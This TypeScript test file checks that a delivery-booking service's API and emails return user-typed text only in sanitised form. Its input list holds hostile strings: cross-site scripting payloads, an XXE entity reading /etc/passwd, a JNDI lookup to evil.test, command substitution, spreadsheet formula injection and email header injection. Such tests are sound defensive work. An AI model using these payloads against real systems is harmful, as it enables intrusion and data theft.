import { newDatabaseFolder } from "@mersal/adapters-db/testing/new-database-path"
import { sanitise } from "@mersal/domain/booking/draft/text-sanitiser"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { saturdayNoonUtc } from "../testing/running-product.ts"
import { naughtyTexts } from "../testing/schema-arbitrary.ts"
import { messagesFor, type SignedUp, signIn, signUp } from "../testing/signed-up.ts"
import { staffPassword, startStaffedStage } from "../testing/staffed-stage.ts"
import { plainBooking } from "../testing/wire-bookings.ts"

// What people type comes back everywhere as the sanitiser leaves it (D24): checklist V1.2.1.

const hostile = [
  ...naughtyTexts,
  "<svg onload=alert(1)>",
  "<img src=x:x onerror=javascript:alert(1)>",
  "</textarea><script>alert(1)</script>",
  "<iframe src=javascript:alert(1)>",
  "<a href=\"javascript:alert('1')\">x</a>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  '<!--#exec cmd="/bin/ls"-->',
  "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
  "$\u007bjndi:ldap://evil.test/a}",
  "$(touch /tmp/blns.fail)",
  "+1+1",
  "@SUM(1+1)",
  "-2+3+cmd|' /C calc'!A0",
  "\u2028\u2029",
  "\ufeff\u200b\u2060",
  "\u202etxt.exe",
  "ﷺ ﷽ ⁰⁴⁵ 田中さん",
  "👾 🙇 💁 🙅 ✋🏿 🇦🇪",
  "Bcc: all@example.com\r\n\r\nbody",
]
/** A name or an address with the text, short enough for every field, and never empty. */
const typedTexts = hostile.map((text) => `Villa ${[...text].slice(0, 30).join("")}`)
const clean = (text: string): string => sanitise(text).trim()

const folder = newDatabaseFolder()
let stage: Awaited<ReturnType<typeof startStaffedStage>>
let customer: SignedUp
let ops: Readonly<Record<string, string>>
beforeAll(async () => {
  stage = await startStaffedStage({ kind: "sqlite", path: folder.path })
  customer = await signUp(stage.product)
  await stage.staff("ops", "Olga")
  ops = { ...(await signIn(stage.product, "ops-1@example.com", staffPassword)) }
})
afterAll(async () => {
  await stage.product.stop()
  folder.remove()
})

const call = async (method: string, path: string, headers: Readonly<Record<string, string>>, body?: object) => {
  const answer = await stage.product.call(method, path, { headers, ...(body && { body }) })
  expect([path, answer.status, answer.body.errors ?? []]).toEqual([path, 200, []])
  return answer.body.data
}

/** Every text under one of these names, anywhere in an answer. */
function textsUnder(names: ReadonlySet<string>, value: unknown): readonly string[] {
  if (typeof value !== "object" || value === null) return []
  return Object.entries(value).flatMap(([name, inner]) =>
    typeof inner === "string" ? (names.has(name) ? [inner] : []) : textsUnder(names, inner),
  )
}

describe("a text that somebody typed", () => {
  it("of a booking is what the sanitiser leaves, in every answer that shows it and in every mail", async () => {
    const fields = new Set(["add", "addtl", "lmark", "cnam", "name", "comnts", "other"])
    for (const [index, typed] of typedTexts.entries()) {
      const stop = { add: typed, addtl: typed, lmark: typed, name: typed, cnam: typed }
      const email = `booker-${index}@example.com`
      const booking = {
        ...plainBooking,
        usr: { ...plainBooking.usr, name: typed, email },
        comnts: typed,
        parcel: { size: "small", kind: "other", other: typed },
        pkp: [{ ...plainBooking.pkp[0], ...stop }],
        dlv: [{ ...plainBooking.dlv[0], ...stop }],
      }
      const { bkref, accessToken } = await call("POST", "/v1.0/order/createOrder", customer.headers, booking)
      const owner = { "mersal-access": accessToken }
      // The seller's name is a setting, and nobody's typed text.
      const { seller: _, ...receipt } = await call("GET", `/v1.0/bookings/${bkref}/receipt`, owner)
      const answers = [
        await call("GET", `/v1.0/order/tracking?bookingId=${bkref}`, owner),
        await call("GET", `/v1.0/task/taskdetails?bookingId=${bkref}`, owner),
        await call("GET", `/v1.0/task/booking_details?booking_id=${bkref}`, owner),
        receipt,
        await call("GET", `/v1.0/operations/bookings/${bkref}`, ops),
      ]
      for (const [at, answer] of answers.entries()) {
        const shown = textsUnder(fields, answer)
        expect([at, new Set(shown)]).toEqual([at, new Set([clean(typed)])])
      }
    }
    // Messages are sent when a minute has passed.
    await stage.setNow(saturdayNoonUtc + 60_000)
    const messages = (await messagesFor(stage.product)).filter(({ text }) => text.includes("Villa"))
    expect(messages.length).toBeGreaterThan(10)
    for (const { to, subject = "", text } of messages) {
      expect(`${subject}${text}`).not.toMatch(/[<>\p{Extended_Pictographic}\u202e]/u)
      expect(to + subject).not.toMatch(/[\r\n]/)
    }
    const list = await call("POST", "/v1.0/task/bookinglist?channel=C2C", customer.headers)
    expect(textsUnder(fields, list).length).toBeGreaterThan(0)
    for (const text of textsUnder(fields, list)) expect(text).toBe(clean(text))
  })

  it("of an account and its address book is that too", async () => {
    for (const typed of typedTexts) {
      const address = { label: typed, add: typed, addtl: typed, lmark: typed, cnam: typed, lat: 25.1, lon: 55.2 }
      const saved = await call("POST", "/v1.0/account/addresses", customer.headers, address)
      const contact = await call("POST", "/v1.0/account/contacts", customer.headers, {
        name: typed,
        ph: "+971501234567",
      })
      await call("PUT", "/v1.0/user/profile", customer.headers, { name: typed })
      const told = [
        saved,
        contact,
        await call("GET", "/v1.0/account/addresses", customer.headers),
        await call("GET", "/v1.0/account/contacts", customer.headers),
        await call("GET", "/v1.0/user/profile", customer.headers),
        (await call("GET", "/v1.0/account/export", customer.headers)).addresses,
      ]
      for (const answer of told) {
        const shown = textsUnder(new Set(["label", "add", "addtl", "lmark", "cnam", "name"]), answer)
        expect(new Set(shown)).toEqual(new Set([clean(typed)]))
      }
      await call("DELETE", `/v1.0/account/addresses/${saved.id}`, customer.headers)
      await call("DELETE", `/v1.0/account/contacts/${contact.id}`, customer.headers)
    }
  })

  it("of a form, and of a note on a booking, is that too", async () => {
    const { bkref } = await call("POST", "/v1.0/order/createOrder", {}, plainBooking)
    for (const typed of typedTexts) {
      const { id } = await call(
        "POST",
        "/v1.0/leads",
        {},
        {
          kind: "contact",
          domain: "AE",
          name: typed,
          email: "asks@example.com",
          phone: "+971501234567",
          company: typed,
          message: typed,
          place: typed,
        },
      )
      const leads = await call("GET", "/v1.0/operations/leads?limit=100", ops)
      const lead = leads.find((each: { readonly id: string }) => each.id === id)
      const shown = textsUnder(new Set(["name", "company", "message", "place"]), lead)
      expect(new Set(shown.filter((text) => text !== ""))).toEqual(new Set([clean(typed)]))
      const followed = { version: lead.version, owner: null, state: "answered", answer: typed }
      expect((await call("PUT", `/v1.0/operations/leads/${id}`, ops, followed)).answer).toBe(clean(typed))
      const note = await call("POST", `/v1.0/operations/bookings/${bkref}/notes`, ops, { text: typed })
      expect(note.text).toBe(clean(typed))
      expect((await call("GET", `/v1.0/operations/bookings/${bkref}`, ops)).notes).toContainEqual(note)
    }
  })

  it("of a note of which nothing is left is refused where it stands", async () => {
    const { bkref } = await call("POST", "/v1.0/order/createOrder", {}, plainBooking)
    for (const text of ["", "   ", "🚪", "<>", "\u200b"]) {
      const { status, body } = await stage.product.call("POST", `/v1.0/operations/bookings/${bkref}/notes`, {
        headers: ops,
        body: { text },
      })
      expect([text, status, body.errors[0].code, body.errors[0].field]).toEqual([text, 422, "missing-field", "text"])
    }
  })

  it("of a company and of an API key is that too", async () => {
    for (const [index, typed] of typedTexts.entries()) {
      // The number of codes to one address is limited.
      if (index % 8 !== 0) continue
      const owner = await signUp(stage.product)
      const company = await call("POST", "/v1.0/corporate/register", owner.headers, {
        dom: "AE",
        name: typed,
        trn: String(100_000_000_000_000 + index),
        contact: typed,
        email: "office@example.com",
        phn: "+97142345678",
      })
      expect([company.company.name, company.company.contact]).toEqual([clean(typed), clean(typed)])
      const shown = await call("GET", "/v1.0/corporate/company", owner.headers)
      expect([shown.company.name, shown.company.contact]).toEqual([clean(typed), clean(typed)])
      const key = { name: typed, kind: "sandbox", scopes: ["quotes"] }
      expect((await call("POST", "/v1.0/keys", owner.headers, key)).name).toBe(clean(typed))
    }
  })
})
